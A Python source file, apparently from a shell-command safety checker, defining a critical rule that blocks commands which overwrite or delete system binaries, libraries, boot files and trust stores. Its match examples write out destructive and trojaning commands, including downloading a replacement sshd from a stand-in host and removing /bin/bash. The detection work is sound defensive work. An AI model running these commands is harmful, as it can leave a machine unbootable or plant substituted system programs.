"""A file that the system needs to start, or to trust, is overwritten."""

import re
from collections.abc import Iterable

from bcce.kit.findings import Rule, Severity, Verdict
from bcce.safety.bash.effects import writes
from bcce.safety.bash.view import View
from bcce.safety.rules.bash import Place

RULE = Rule(
    id="bash.replace-system",
    title="A file that the system needs to start, or to trust, is overwritten",
    severity=Severity.CRITICAL,
    verdict=Verdict.BLOCK,
    why="the machine may not start again, or every program may be another one",
    instead="reinstall the package that owns the file",
    tags=("T1554", "T1565.001"),
    examples_match=(
        "cp /tmp/x /usr/bin/sudo",
        "echo > /etc/fstab",
        "mv evil /bin/ls",
        "curl -o /usr/sbin/sshd http://x.example/sshd",
        "ln -sf /tmp/libc.so /lib/x86_64-linux-gnu/libc.so.6",
        "rm -f /bin/bash",
        "rm -rf /boot/vmlinuz-6.1",
    ),
    examples_pass=(
        "cp app.conf /etc/app/app.conf",
        "cat /etc/fstab",
        "cp tool /usr/local/bin/tool",
        "echo x >> /etc/hosts",
        "rm /usr/local/bin/old-tool",
    ),
)
_SYSTEM = re.compile(
    r"/(usr/)?s?bin/(?!local)[^/]+|/(usr/)?lib(32|64|x32)?/(x86_64-linux-gnu/|aarch64-linux-gnu/|systemd/)?[^/]*(\.so[\d.]*|"
    r"systemd[\w-]*)|/boot/.*|/etc/(fstab|crypttab|inittab|nsswitch\.conf|login\.defs|shells|ld\.so\.(cache|preload)|mtab)|/sbin/init|"
    r"/etc/apt/trusted\.gpg.*|/etc/ssl/certs/.*|/usr/local/share/ca-certificates/.*|/etc/pki/ca-trust/source/anchors/.*"
)


def find(view: View) -> Iterable[Place]:
    """Such files as targets of copies, downloads, redirects and removals."""
    for call in view.calls:
        operands = call.operands
        targets: list[str] = []
        if call.name in ("cp", "mv", "install", "ln", "rsync", "scp"):
            targets = list(operands[-1:]) if len(operands) > 1 else []
        elif call.name in ("rm", "unlink", "shred", "truncate", "tee"):
            targets = list(operands)
        elif call.name == "dd":
            targets = [value[3:] for value in call.args if value.startswith("of=")]
        elif call.name in ("curl", "wget"):
            targets = [
                call.args[index + 1] for index, value in enumerate(call.args[:-1]) if value in ("-o", "-O", "--output", "--output-document")
            ]
        if any(_SYSTEM.fullmatch(target) for target in targets) and not (
            call.name == "tee" and call.has("-a") and "/etc/" in " ".join(targets)
        ):
            yield Place(call.command)
    for redirect in view.redirects():
        if (
            writes(view, redirect)
            and redirect.operator not in (">>", "&>>")
            and any(_SYSTEM.fullmatch(target) for target in view.targets(redirect))
        ):
            yield Place(redirect)
